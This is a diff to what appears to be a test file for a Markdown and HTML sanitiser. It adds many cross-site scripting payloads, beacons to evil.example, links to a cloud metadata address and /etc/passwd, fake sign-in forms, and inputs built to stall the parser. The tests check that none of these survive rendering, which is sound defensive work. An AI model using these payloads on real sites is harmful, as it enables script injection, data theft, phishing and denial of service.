@@ -56,6 +56,47 @@ const hostile: readonly string[] = [
   '<p id="__proto__" class="toString">x</p>',
   '\u0000<scr\u0000ipt>window.hit=1</scr\u0000ipt>',
   '\u202E\u2066<script>window.hit=1</script>',
+  // Markup that becomes other markup when it is read a second time.
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hit=1&gt;">',
+  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.hit=1>',
+  '<svg></p><style><a id="</style><img src=1 onerror=window.hit=1>">',
+  '<svg><foreignObject><iframe srcdoc="<script>parent.hit=1</script>"></foreignObject></svg>',
+  '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0ieCI+PC9zdmc+#x"></use></svg>',
+  '<svg><set attributeName=href to="javascript:window.hit=1"></set><a><text>x</text></a></svg>',
+  '<math href="javascript:window.hit=1">x</math><maction actiontype="statusline#http://evil.example">x</maction>',
+  '<template><img src=x onerror=window.hit=1></template>',
+  '<template shadowrootmode=open><style>:host{position:fixed;inset:0}</style><img src=x onerror=window.hit=1></template>',
+  '<xmp><p title="</xmp><img src=x onerror=window.hit=1>"></xmp>',
+  '<textarea></textarea><img src=x onerror=window.hit=1><plaintext>',
+  '<select><style></select><img src=x onerror=window.hit=1></style></select>',
+  '<p title="`<img src=x onerror=window.hit=1>`">',
+  '<![CDATA[><img src=x onerror=window.hit=1>]]>',
+  '<?xml-stylesheet href="javascript:window.hit=1"?><img src=x onerror=window.hit=1>',
+  '`a` <b title="`" onclick="window.hit=1">`x',
+  // What would tell somebody that it was read.
+  '<div style="background:url(http://evil.example/b)">x</div><style>input[value^=a]{background:url(http://evil.example/a)}</style>',
+  '<video src="http://evil.example/v" poster="http://evil.example/p" autoplay><track src="http://evil.example/t"></video>',
+  '<audio src="http://evil.example/a" autoplay></audio><embed src="http://evil.example/e"><object data="http://evil.example/o"></object>',
+  '<picture><source srcset="http://evil.example/s"><img srcset="http://evil.example/i 2x" loading=eager></picture>',
+  '<link rel=preload as=image href="http://evil.example/l"><link rel=dns-prefetch href="//evil.example"><link rel=prerender href="//evil.example">',
+  '<body background="http://evil.example/b"><table background="http://evil.example/t"><td background="http://evil.example/c">x',
+  '<img src="http://127.0.0.1:1/rpc"><iframe src="http://169.254.169.254/latest/meta-data/"></iframe>',
+  '![a](http://evil.example/?q=secret "t") ![b](//evil.example/b) ![c][r]\n\n[r]: http://evil.example/r',
+  '[![x](http://evil.example/i)](http://evil.example/l)',
+  // What would have a person give something away.
+  '<dialog open><form method=dialog action="http://evil.example/"><input type=password name=key></form></dialog>',
+  '<button formaction="javascript:window.hit=1" type=submit>Sign in again</button><isindex action="http://evil.example">',
+  '<a href="http://evil.example/" target=_blank ping="http://evil.example/p">Your session has ended</a>',
+  '<area href="javascript:window.hit=1"><map name=m></map><input type=image src=x onerror=window.hit=1>',
+  '<details open ontoggle="window.hit=1"><summary accesskey=x onclick="window.hit=1">x</summary></details>',
+  '<p contenteditable onfocus="window.hit=1" tabindex=1 autofocus>x</p><marquee onstart="window.hit=1">x</marquee>',
+  '<p popover id=p onbeforetoggle="window.hit=1">x</p><button popovertarget=p>y</button>',
+  '<http://evil.example/?a=<img/src=x/onerror=window.hit=1>>',
+  '[x](<javascript:window.hit=1> "onclick=window.hit=1") [y](&#106;avascript:window.hit=1) [z](JaVaScRiPt&colon;window.hit=1)',
+  '[x](file:///etc/passwd) [y](\\\\evil.example\\share) [z](ms-word:ofe|u|http://evil.example/x)',
+  '# <img src=x onerror=window.hit=1>\n> <img src=x onerror=window.hit=1>\n1. <img src=x onerror=window.hit=1>',
+  '~~<img src=x onerror=window.hit=1>~~ **<img src=x onerror=window.hit=1>** _[x](javascript:window.hit=1)_',
+  '<p><table><tr><td><svg><desc><td></desc></svg><img src=x onerror=window.hit=1></td></tr></table>',
 ];
 
 test.each(hostile)('%j leaves text and nothing that acts', async (text) => {
@@ -85,9 +126,33 @@ test('texts made to keep the reader busy are read all the same', async () => {
     '*a_'.repeat(3_000),
     '- '.repeat(1_000),
     '`'.repeat(9_999),
+    // A paragraph of marks: the time that marked takes rises with its square, these would take minutes.
+    '*a_'.repeat(20_000),
+    '*!'.repeat(30_000),
+    '~a~~'.repeat(20_000),
+    '![['.repeat(20_000),
+    // A reader that guesses wrong about code has all of these marks to look through.
+    `\`\`\`\n${'*a_'.repeat(20_000)}`,
+    `- x\n${'*a_'.repeat(20_000)}`,
+    Array.from({ length: 2_000 }, (_, depth) => `${' '.repeat(depth)}- a`).join('\n'),
+    'a word '.repeat(800_000),
   ]) {
-    expect((await render(text)).hit).toBe(false);
+    const { hit, text: shown } = await render(text);
+    expect({ hit, isThere: shown.length > 0 }).toEqual({ hit: false, isThere: true });
   }
+});
+
+test('a text that is too tedious to be read as Markdown keeps its words and its lines', async () => {
+  const { tags, text } = await render(`one\n${'*a_'.repeat(20_000)}`);
+  expect(tags).toEqual(['p', 'br']);
+  expect(text.startsWith('one*a_*a_')).toBe(true);
+});
+
+test('a long list with bold beginnings, and code full of marks, are still Markdown', async () => {
+  const list = Array.from({ length: 400 }, (_, item) => `- **item ${item}**: some _words_ on it`).join('\n');
+  const { tags } = await render(`${list}\n\n\`\`\`python\n${'__init__ * 2 '.repeat(1_000)}\n\`\`\``);
+  expect(tags.filter((tag) => tag === 'strong')).toHaveLength(400);
+  expect(tags).toContain('pre');
 });
 
 const allowed = new Set(
